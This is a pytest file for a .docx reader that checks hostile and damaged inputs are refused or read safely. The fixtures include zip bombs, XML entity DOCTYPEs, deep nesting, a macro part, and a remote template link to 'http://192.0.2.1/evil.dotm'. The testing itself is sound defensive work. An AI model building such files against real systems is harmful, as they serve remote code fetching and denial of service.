"""Files that are damaged, locked, of another kind, or made to do harm: one clear line for each."""

from __future__ import annotations

import io
import zipfile

import pytest

from journalpress.errors import InputError, LimitExceeded
from journalpress.inspect.returned import read_returned, reading, tree
from journalpress.wordfile import opening
from journalpress.wordfile import parts as package
from journalpress.writers.docx import write_docx
from tests.editions import edition_of
from tests.inspect.returned.wordml import (
    NAMESPACES,
    document,
    ins,
    p,
    part_of,
    r,
    tracked,
    word_file,
    words,
    zipped,
)
from tests.trees import article
from tests.trees import p as paragraph
from tests.writers.docx.reading import changed, names

OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)


def parts(data: bytes) -> dict[str, str | bytes]:
    """All parts of a file."""
    return {name: part_of(data, name) for name in names(data)}


def with_part(name: str, text: str | bytes) -> bytes:
    """A file with one part more, or another one."""
    return zipped({**parts(word_file(p(r("a")))), name: text})


def stored(name: str, data: bytes) -> bytes:
    """A zip file with one member that is not compressed."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(name, data)
    return file.getvalue()


def locked() -> bytes:
    """A zip file that says that its members are locked with a password."""
    data = bytearray(word_file(p(r("a"))))
    at = data.index(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def twice() -> bytes:
    """A file with its document twice."""
    file = io.BytesIO(word_file(p(r("a"))))
    with zipfile.ZipFile(file, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", document(p(r("b"))))
    return file.getvalue()


def deep(levels: int) -> str:
    """Content controls in one another."""
    return "<w:sdt><w:sdtContent>" * levels + p(r("a")) + "</w:sdtContent></w:sdt>" * levels


WHOLE = word_file(p(r("Words that are long enough to be cut off")))
NOT_WORD = [
    (b"", "is empty"),
    (OLE + "EncryptedPackage".encode("utf-16-le"), "protected by a password"),
    (OLE + "WordDocument".encode("utf-16-le"), r"old Word file \(.doc\)"),
    (OLE, "file of an old Office"),
    (b"{\\rtf1\\ansi Hello}", "RTF"),
    (b"%PDF-1.7\n", "PDF"),
    (b"<?xml version='1.0'?><pkg:package/>", "page or XML"),
    (b"\n<HTML><body>Hello", "page or XML"),
    (b"Hello", "no Word file"),
    (WHOLE[: len(WHOLE) // 2], "not complete"),
    (WHOLE[:30], "not complete"),
    (locked(), "password"),
    (stored("mimetype", b"application/vnd.oasis.opendocument.text"), "OpenDocument"),
    (stored("xl/workbook.xml", b"<x/>"), "Excel"),
    (stored("ppt/presentation.xml", b"<x/>"), "PowerPoint"),
    (stored("readme.txt", b"x"), "no text of Word's"),
    (zipped({"word/document.xml": f"<w:document {NAMESPACES}/>"}), "no body"),
    (zipped({"word/document.xml": "<html><body/></html>"}), "no body"),
    (zipped({"word/document.xml": "<w:document"}), "cannot be read"),
    (
        with_part("word/document.xml", f"<!DOCTYPE x [<!ENTITY a 'b'>]>{document(p('&a;'))}"),
        "document type",
    ),
    (with_part("docProps/custom.xml", "<!DOCTYPE x><x/>"), "document type"),
    (with_part("word/styles.xml", "<w:styles"), "cannot be read"),
    (with_part("word/document.xml", document(deep(130))), "cannot be read"),
]


@pytest.mark.parametrize(("data", "message"), NOT_WORD, ids=[each for _, each in NOT_WORD])
def test_what_cannot_be_read_is_told_in_one_line(data: bytes, message: str) -> None:
    """With what a secretary can do about it."""
    with pytest.raises(InputError, match=message) as raised:
        read_returned(data)

    assert "\n" not in str(raised.value)
    assert raised.value.hint


def test_a_part_that_is_there_twice_is_refused() -> None:
    """Which of both is read would be a matter of chance."""
    with pytest.raises(InputError, match="twice") as raised:
        read_returned(twice())

    assert raised.value.hint


def test_a_torn_part_is_told_by_name() -> None:
    """Its checksum is wrong."""
    data = bytearray(stored("word/document.xml", document(p(r("a"))).encode()))
    data[60] ^= 1
    with pytest.raises(InputError, match="torn"):
        read_returned(bytes(data))


# --- too large --------------------------------------------------------------------------------


def bomb() -> bytes:
    """A few kilobytes that unpack to some megabytes of nothing."""
    return with_part("word/media/image1.png", bytes(5_000_000))


@pytest.mark.parametrize(
    ("module", "limit", "message"),
    [
        (opening, "MOST_PACKED", "larger than"),
        (opening, "MOST_BYTES", "unpacks to more than"),
        (opening, "MOST_PART", "is larger than"),
        (package, "MOST_PARTS", "more than 1 parts"),
        (reading, "MOST_PARAGRAPHS", "more than 1 paragraphs"),
        (tree, "MOST_CHARACTERS", "more than 1 characters"),
    ],
)
def test_a_file_past_a_limit_is_refused(
    module: object, limit: str, message: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each limit is named, and there is something to do."""
    monkeypatch.setattr(module, limit, 1)
    with pytest.raises(LimitExceeded, match=message) as raised:
        read_returned(word_file(p(r("ab")), p(r("c"))))

    assert raised.value.hint


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    """A part that grows a thousand times is no picture."""
    with pytest.raises(LimitExceeded, match="100 times"):
        read_returned(bomb())


def test_many_small_bombs_are_one() -> None:
    """Parts that are small one by one, and the whole is not."""
    bombs = {f"x{number}.bin": bytes(900_000) for number in range(20)}
    with pytest.raises(LimitExceeded, match="100 times its size"):
        read_returned(zipped({**parts(word_file(p(r("a")))), **bombs}))


def test_deep_nesting_is_read_as_far_as_it_may_go() -> None:
    """No recursion of ours ends before the parser's limit does."""
    runs = "<w:smartTag>" * 240 + r("a") + "</w:smartTag>" * 240

    assert words(read_returned(word_file(deep(120))).accepted) == ["a"]
    assert words(read_returned(word_file(p(runs))).accepted) == ["a"]
    inserted = ins("a")
    for _ in range(240):
        inserted = tracked("ins", inserted)
    assert words(read_returned(word_file(p(inserted))).accepted) == ["a"]


def test_tables_as_deep_as_they_go_are_read() -> None:
    """Each level of them is four of the parser's."""
    nested = p(r("a"))
    for _ in range(60):
        nested = f"<w:tbl><w:tr><w:tc>{nested}</w:tc></w:tr></w:tbl>"

    assert words(read_returned(word_file(nested)).accepted) == ["a"]


# --- what is tolerated ------------------------------------------------------------------------


def test_macros_are_told_and_never_run() -> None:
    """The text is read."""
    returned = read_returned(with_part("word/vbaProject.bin", b"\x00"))

    assert words(returned.accepted) == ["a"]
    assert "macros" in returned.notices[0]


def test_a_template_elsewhere_is_never_fetched() -> None:
    """It is no part of what the file says."""
    members = parts(word_file(p(r("a"))))
    template = (
        '<Relationship Id="rIdT" Type="http://x/attachedTemplate" '
        'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/>'
    )
    members["word/settings.xml"] = f'<w:settings {NAMESPACES}><w:attachedTemplate r:id="rIdT"/>'
    members["word/_rels/settings.xml.rels"] = f"<Relationships>{template}</Relationships>"

    assert words(read_returned(zipped(members)).accepted) == ["a"]


def test_a_document_of_another_name_is_found() -> None:
    """Word on the web calls it document2.xml."""
    members = parts(word_file(p(r("a"))))
    for old, new in (
        ("word/document.xml", "word/document2.xml"),
        ("word/_rels/document.xml.rels", "word/_rels/document2.xml.rels"),
    ):
        members[new] = members.pop(old)
    rels = members["_rels/.rels"]
    assert isinstance(rels, bytes)
    members["_rels/.rels"] = rels.replace(b"word/document.xml", b"/word/document2.xml")

    assert words(read_returned(zipped(members)).accepted) == ["a"]


def test_strict_open_xml_is_read() -> None:
    """Word can save so; only the namespaces differ."""
    data = write_docx(edition_of(article(paragraph("Strict words"))))

    def strict(part: bytes) -> bytes:
        for usual, name in (
            (b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
             b"http://purl.oclc.org/ooxml/wordprocessingml/main"),
            (b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
             b"http://purl.oclc.org/ooxml/officeDocument/relationships"),
        ):  # fmt: skip
            part = part.replace(usual, name)
        return part

    whole = read_returned(data)
    for name in ("word/document.xml", "word/styles.xml", "word/numbering.xml", "_rels/.rels"):
        data = changed(data, strict, name)

    assert read_returned(data) == whole


def test_a_file_without_styles_and_lists_is_read() -> None:
    """Every paragraph is text."""
    returned = read_returned(zipped({"word/document.xml": document(p(r("a")), p(r("b")))}))

    assert words(returned.accepted) == ["a", "b"]
    assert {each.kind for each in returned.accepted} == {"text"}


def test_the_file_is_the_same_after_it_was_read() -> None:
    """Nothing is saved, and reading twice is reading once."""
    assert read_returned(WHOLE) == read_returned(WHOLE)
